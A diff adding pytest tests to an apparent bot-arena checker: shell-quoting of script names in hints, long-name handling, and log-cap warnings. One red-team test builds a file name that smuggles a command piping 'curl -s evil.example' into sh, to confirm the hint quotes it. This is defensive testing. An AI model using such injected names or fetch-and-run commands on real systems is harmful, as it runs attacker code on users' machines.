@@ -265,6 +265,32 @@ def test_a_crlf_script_run_by_its_interpreter(tmp_path: Path, interpreter: str) 
             f"part of each line: convert it (sed -i 's/\\r$//' {name}, or dos2unix {name})") in out, out
 
 
+def test_a_script_name_in_a_hint_is_quoted_for_the_shell(tmp_path: Path) -> None:
+    # Red team: a CRLF script named 'run.sh; curl -s evil.example | sh; echo' made the hint
+    # "convert it (sed -i 's/\r$//' run.sh; curl -s evil.example | sh; echo, ...)": copied from a
+    # report into a shell, it runs the author's command.
+    folder = tmp_path / "trap"
+    folder.mkdir()
+    name = "run.sh; curl -s evil.example | sh; echo"
+    (folder / name).write_bytes(b"read -r line\r\ncase \"$line\" in\r\n  *) echo hi ;;\r\nesac\r\n")
+    write_bot(folder, "trap", ["bash", name], protocol="stdio")
+    code, out = check_bot(folder)
+    assert code == 1, out
+    quoted = "'run.sh; curl -s evil.example | sh; echo'"
+    assert f"convert it (sed -i 's/\\r$//' {quoted}, or dos2unix {quoted})" in out, out
+
+
+def test_a_hint_that_fails_is_left_out_without_a_traceback(tmp_path: Path) -> None:
+    # A 300-character program name: Path.is_file raised 'File name too long' in the hint, and
+    # its traceback was printed on the user's terminal.
+    folder = tmp_path / "longname"
+    folder.mkdir()
+    write_bot(folder, "longname", ["b" * 300], protocol="stdio")
+    proc = arena("check-bot", str(folder), "--games", "1", "--sandbox", "none")
+    assert proc.returncode == 1 and "Traceback" not in proc.stdout + proc.stderr, proc.stderr
+    assert "the hint for longname failed" not in proc.stderr, proc.stderr  # it does not fail now
+
+
 def test_zeromq_code_in_a_stdio_bot_and_a_req_socket(tmp_path: Path) -> None:
     code, out = check_bot(newcomer(tmp_path, "zmq_bot.py", name="zmq-as-stdio"))
     assert code == 1 and "KeyError: 'ARENA_TOKEN'" in out, out
@@ -350,6 +376,14 @@ def test_a_log_cut_at_its_cap_is_warned_about(tmp_path: Path) -> None:
     shutil.rmtree(kept.parent)
     code, out = check_bot(newcomer(tmp_path, "stdio_bot.py"))
     assert code == 0 and "log cut" not in out, out
+    # The same --logs folder again, the bot fixed: earlier runs' logs do not count (it warned).
+    spammer = newcomer(tmp_path / "again", "stderr_spam.py")
+    logs = ["--logs", str(tmp_path / "shared-logs")]
+    proc = arena("check-bot", str(spammer), "--games", "2", *logs)
+    assert "log cut" in proc.stderr, proc.stderr
+    (spammer / "stderr_spam.py").write_text((NEWCOMER / "stdio_bot.py").read_text())
+    proc = arena("check-bot", str(spammer), "--games", "2", *logs)
+    assert proc.returncode == 0 and "log cut" not in proc.stderr, proc.stdout + proc.stderr
 
 
 def test_stale_replies_are_warned_about(tmp_path: Path) -> None:
